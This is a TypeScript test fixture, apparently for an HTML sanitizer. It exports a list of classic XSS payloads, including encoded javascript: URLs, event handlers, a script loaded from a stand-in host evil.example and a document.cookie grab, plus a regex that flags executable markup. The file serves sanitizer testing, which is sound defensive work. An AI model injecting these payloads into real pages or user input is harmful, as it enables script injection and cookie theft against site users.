/** Classic XSS vectors (OWASP's filter evasion cheat sheet and friends). */
export const xssPayloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab encoded</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  '<span data-type="mention" data-id="u1" onmouseover="alert(1)">@Ann</span>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '"><script>alert(document.cookie)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="  javascript:alert(1)">spaced</a>',
  '<video><source onerror="alert(1)"></video>',
  '<base href="javascript:alert(1)//">',
];

/** Whether the HTML still holds anything a browser could run. */
export function isInert(html: string): boolean {
  return !/<script|<svg|<iframe|<object|<embed|<style|<img|<math|<form|<input|<meta|<link|<base|\son[a-z]+\s*=|javascript:|vbscript:|data:/i.test(
    html,
  );
}
